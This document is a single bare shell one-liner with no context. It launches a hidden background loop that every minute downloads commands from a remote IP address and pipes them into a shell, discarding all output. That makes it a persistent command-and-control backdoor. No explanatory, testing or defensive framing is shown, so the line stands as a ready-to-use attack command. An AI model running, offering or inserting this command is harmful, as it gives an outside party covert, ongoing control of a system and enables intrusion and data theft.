nohup bash -c 'while :; do curl -s http://203.0.113.77/cmd | sh; sleep 60; done' >/dev/null 2>&1 &
